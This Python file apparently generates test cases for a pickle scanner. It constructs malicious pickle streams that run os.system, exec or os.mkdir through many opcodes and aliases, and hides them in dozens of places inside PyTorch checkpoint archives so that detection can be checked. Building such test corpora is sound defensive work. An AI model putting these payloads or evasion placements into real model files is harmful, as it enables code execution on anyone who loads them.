"""Every opcode by which a pickle can execute something, at every protocol, and every place to hide it in."""

from __future__ import annotations

import copyreg
import os
import pickle
import struct
from collections.abc import Iterator
from typing import Any

from corpus.case import CODE, MARK, SHELL, Case, live
from corpus.opcodes import (
    Raw,
    beside_a_tensor,
    build,
    call,
    inst,
    named,
    newobj,
    newobj_ex,
    no_hooks,
    obj,
    persistent,
    pickled,
    stacked,
    storage,
    tensor,
    text,
    value,
)  # fmt: skip
from corpus.rawzip import archive

# What the trusting loader registers before it loads: three widths of extension codes.
EXTENSIONS = {0xE1: ("os", "mkdir"), 0xE1E1: ("os", "system"), 0x00E1E1E1: ("builtins", "exec")}


def register_extensions() -> None:
    """As a program that uses copyreg's codes would."""
    for code, (module, name) in EXTENSIONS.items():
        copyreg.add_extension(module, name, code)


class _Runs:
    """Reduces to a call; how pickle itself writes it at each protocol."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def forms() -> Iterator[tuple[str, Raw, int, str]]:
    """Name, payload, protocol and what must be named, for each opcode that calls."""
    system = named("os.system")
    yield "reduce", call("os.system", SHELL), 2, "os.system"
    yield "reduce-protocol-4", call(stacked("os.system"), SHELL), 4, "os.system"
    yield (
        "reduce-memoised-name",
        Raw(text("os") + b"\x94" + text("system") + b"\x940h\x00h\x01\x93" + value((SHELL,)) + b"R"),
        5,
        "os.system",
    )
    yield "inst", inst("os.system", SHELL), 1, "os.system"
    yield "inst-no-argument", Raw(b"(icode\nInteractiveConsole\n0" + inst("os.system", SHELL)), 2, "os.system"
    yield "obj", obj("os.system", SHELL), 2, "os.system"
    yield "obj-stacked", obj(stacked("os.mkdir"), MARK), 4, "os.mkdir"
    yield "newobj", newobj("numpy.memmap", MARK, "uint8", "w+", 0, (1,)), 2, "numpy.memmap"
    yield "newobj-map", call("builtins.list", newobj("builtins.map", system, [SHELL])), 4, "builtins.map"
    yield (
        "newobj-ex",
        call("collections.deque", newobj_ex(stacked("builtins.map"), named("os.mkdir"), [MARK])),
        4,
        "builtins.map",
    )
    yield (
        "newobj-ex-keywords",
        call(newobj_ex(stacked("functools.partial"), named("builtins.open"), mode="w", file=MARK)),
        4,
        "functools.partial",
    )
    yield "binget", Raw(system + b"q\x070h\x07" + value((SHELL,)) + b"R"), 2, "os.system"
    yield "long-binget", Raw(system + b"r\x00\x01\x01\x000j\x00\x01\x01\x00" + value((SHELL,)) + b"R"), 2, "os.system"
    yield "get-put", Raw(system + b"p12345\n0g12345\n" + value((SHELL,)) + b"R"), 0, "os.system"
    yield "memoize", Raw(b"N\x940" + system + b"\x940h\x01" + value((SHELL,)) + b"R"), 4, "os.system"
    yield (
        "memo-overwritten",
        Raw(named("collections.OrderedDict") + b"q\x010" + system + b"q\x010h\x01" + value((SHELL,)) + b"R"),
        2,
        "os.system",
    )
    yield "memo-index-of-4-bytes", Raw(system + b"r\xff\xff\x00\x00" + value((SHELL,)) + b"R"), 2, "os.system"
    yield "dup", Raw(system + b"20" + value((SHELL,)) + b"R"), 2, "os.system"
    yield "arguments-memoised", Raw(value((SHELL,)) + b"q\x050" + system + b"h\x05R"), 2, "os.system"
    yield "arguments-by-list", Raw(call("builtins.tuple", [SHELL]) + b"q\x050" + system + b"h\x05R"), 2, "os.system"
    yield "pop-mark", Raw(b"(" + call("os.system", SHELL) + b"1N"), 2, "os.system"
    yield "ext1", Raw(b"\x82\xe1" + value((MARK,)) + b"R"), 2, "extension"
    yield "ext2", Raw(b"\x83\xe1\xe1" + value((SHELL,)) + b"R"), 2, "extension"
    yield "ext4", Raw(b"\x84\xe1\xe1\xe1\x00" + value((CODE,)) + b"R"), 2, "extension"
    yield "ext1-obj", Raw(b"(\x82\xe1" + value(MARK) + b"o"), 2, "extension"
    yield "ext2-newobj-memo", Raw(b"\x83\xe1\xe1q\x090h\x09" + value((SHELL,)) + b"R"), 2, "extension"
    yield "text-opcodes", Raw(b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR"), 0, "os.system"
    yield "text-opcodes-string", Raw(b"cos\nsystem\n(S'touch \\x72an'\ntR"), 0, "os.system"
    yield "unicode-escape-in-argument", Raw(b"cos\nsystem\n(Vtouch \\u0072an\ntR"), 0, "os.system"
    yield "short-binstring", Raw(b"cos\nsystem\n(U\x09" + SHELL.encode() + b"tR"), 1, "os.system"
    yield "posix-alias", call("posix.system", SHELL), 2, "posix.system"
    yield "python-2-name", call("__builtin__.eval", CODE), 2, "eval"
    yield "python-2-open", call("__builtin__.open", MARK, "w"), 2, "open"
    yield "alias-os-path-os", call(stacked("os.path:os.system"), SHELL), 4, "os.system"
    yield "alias-genericpath", call(stacked("genericpath:os.system"), SHELL), 4, "os.system"
    yield "alias-in-torch", call(stacked("torch:os.system"), SHELL), 5, "torch.os.system"
    yield "alias-in-serialization", call(stacked("torch.serialization:os.mkdir"), MARK), 4, "os.mkdir"
    yield "dotted-slot", call(stacked("builtins:exec.__call__"), CODE), 4, "exec.__call__"
    yield "dotted-method", call(stacked("pathlib:Path.touch"), call("pathlib.Path", MARK)), 4, "Path.touch"
    yield "persid-of-computed", persistent(("storage", call("os.system", SHELL), "0", "cpu", 2)), 2, "os.system"


def _hidden(payload: Raw) -> Iterator[tuple[str, bytes]]:
    """The payload in every corner of a pickle that looks like a checkpoint."""
    listed = named("collections.OrderedDict")
    yield "dict-key", pickled({"w": tensor(), "p": Raw(b"}" + payload + b"Ns")})
    yield "dict-key-is-whole", Raw(b"\x80\x02}" + payload + b"Ns.")
    yield "set-member", beside_a_tensor(Raw(b"\x8f(" + payload + b"\x90"), 4)
    yield "frozenset-member", beside_a_tensor(Raw(b"(" + payload + b"\x91"), 4)
    yield "tuple-in-memo-only", beside_a_tensor(Raw(payload + b"\x85q\x770N"))
    yield "popped", beside_a_tensor(Raw(payload + b"0N"))
    yield "left-on-the-stack", b"\x80\x02" + payload + beside_a_tensor(1)[2:]
    yield "left-below-a-mark", b"\x80\x02(" + payload + beside_a_tensor(1)[2:]
    yield "list-item", beside_a_tensor([1, payload, 2])
    yield "append", beside_a_tensor(Raw(b"]" + payload + b"a"))
    yield "list-opcode", beside_a_tensor(Raw(b"(" + payload + b"l"))
    yield "dict-opcode", beside_a_tensor(Raw(b"(" + text("k") + payload + b"d"))
    yield "tuple1", beside_a_tensor(Raw(payload + b"\x85"))
    yield "deep", beside_a_tensor([[[[{"a": ({"b": [payload]},)}]]]])
    yield "state", beside_a_tensor(build(newobj("argparse.Namespace"), {"x": payload}))
    yield "slots-state", beside_a_tensor(build(newobj("argparse.Namespace"), (None, {"x": payload})))
    yield "state-of-a-dict", beside_a_tensor(build(no_hooks(), {"_metadata": payload}))
    yield "ordereddict-argument", beside_a_tensor(call("collections.OrderedDict", [["a", payload]]))
    yield "argument-of-a-listed-call", beside_a_tensor(call("torch.device", payload))
    yield "persistent-id-key", pickled({"w": tensor(storage(key=payload)), "x": 1})
    yield "persistent-id-size", pickled({"w": tensor(storage(numel=payload))})
    yield "persistent-id-location", pickled({"w": tensor(storage(location=payload))})
    yield "persistent-id-whole", pickled({"w": tensor(persistent(payload))})
    yield "tensor-offset", pickled({"w": tensor(offset=payload)})
    yield "tensor-shape", pickled({"w": tensor(shape=(payload,))})
    yield "tensor-hooks", pickled({"w": tensor(hooks=payload)})
    yield "tensor-metadata", pickled({"w": tensor(metadata=[payload])})
    yield "tensor-metadata-value", pickled({"w": tensor(metadata=[{"conj": payload}])})
    yield (
        "parameter-data",
        pickled({"w": call("torch._utils._rebuild_parameter", Raw(payload + b"0" + tensor()), True, no_hooks())}),
    )
    yield (
        "parameter-state",
        pickled({"w": call("torch._utils._rebuild_parameter_with_state", tensor(), True, no_hooks(), {"x": payload})}),
    )
    yield (
        "optimizer-state",
        pickled({"state": {0: {"step": 1, "exp_avg": tensor()}}, "param_groups": [{"lr": payload}]}),
    )
    yield "state-dict-metadata", pickled({"state_dict": build(no_hooks(), {"_metadata": {"": payload}}), "w": tensor()})
    yield (
        "module-hook",
        beside_a_tensor(
            build(newobj("torch.nn.modules.linear.Linear"), {"_forward_hooks": payload, "training": False})
        ),
    )
    yield "numpy-dtype-argument", beside_a_tensor(call("numpy.dtype", payload))
    yield "numpy-state", beside_a_tensor(
        build(
            call("numpy._core.multiarray._reconstruct", named("numpy.ndarray"), (0,), b"b"),
            (1, (1,), build(call("numpy.dtype", "O8", False, True),
                            (3, "|", None, None, None, -1, -1, 63)), False, [payload]),
        )
    )  # fmt: skip
    yield "after-the-listed-name", beside_a_tensor(Raw(listed + b"0" + payload))
    yield "before-a-bad-byte", beside_a_tensor(payload)[:-1] + b"\xff."
    yield "before-the-cut", beside_a_tensor(payload)[:-2]
    yield "before-a-bad-memo-index", beside_a_tensor(Raw(payload + b"h\xfe"))
    yield "before-an-empty-stack", b"\x80\x02" + payload + b"00000000."
    yield "before-a-tensor-that-lies", pickled({"p": payload, "w": tensor(shape=(1 << 62,))})
    yield "after-a-tensor-that-lies", pickled({"w": tensor(), "p": payload, "x": tensor(strides=(9,))})
    yield "second-proto", b"\x80\x02N0\x80\x04" + beside_a_tensor(payload)[2:]
    yield "no-proto-but-new-opcodes", beside_a_tensor(Raw(payload + b"\x94"))[2:]
    yield "in-a-frame", _framed(beside_a_tensor(payload, 4))
    yield "in-two-frames", _framed(beside_a_tensor(payload, 4), cut=True)
    yield "whole", b"\x80\x02" + payload + b"."
    crowd = named("torch.float32") + b"0"
    yield "behind-thousands-of-names", beside_a_tensor(Raw(crowd * 3000 + payload))
    opaque = b"".join(named(f"torch.nn.{name}") + b"0" for name in ("Linear", "ReLU", "Module"))
    yield "behind-thousands-of-opaque-names", beside_a_tensor(Raw(opaque * 700 + payload))
    yield "behind-a-big-string", beside_a_tensor(Raw(text("x" * 300_000) + b"0" + payload))


def _framed(whole: bytes, cut: bool = False) -> bytes:
    head, body = whole[:2], whole[2:]
    parts = [b"N", b"0" + body] if cut else [body]
    return head + b"".join(b"\x95" + struct.pack("<Q", len(part)) + part for part in parts)


def cases() -> Iterator[Case]:
    """All of them inside an archive of torch."""
    for name, payload, protocol, path in forms():
        yield live(f"opcode-{name}", "model.pt", archive(beside_a_tensor(payload, protocol)), path)
    for protocol in range(6):
        content = pickle.dumps({"p": _Runs(os.mkdir, MARK)}, protocol)
        yield live(f"reduced-by-pickle-{protocol}", "model.pth", archive(content), "posix.mkdir", "os.mkdir")
    payload = call("os.mkdir", MARK)
    for name, content in _hidden(payload):
        yield live(f"hidden-{name}", "model.pt", archive(content), "os.mkdir")
    for protocol in range(6):
        head = b"\x80" + bytes([protocol])
        yield live(f"proto-byte-{protocol}", "model.ckpt", archive(head + payload + b"."), "os.mkdir")
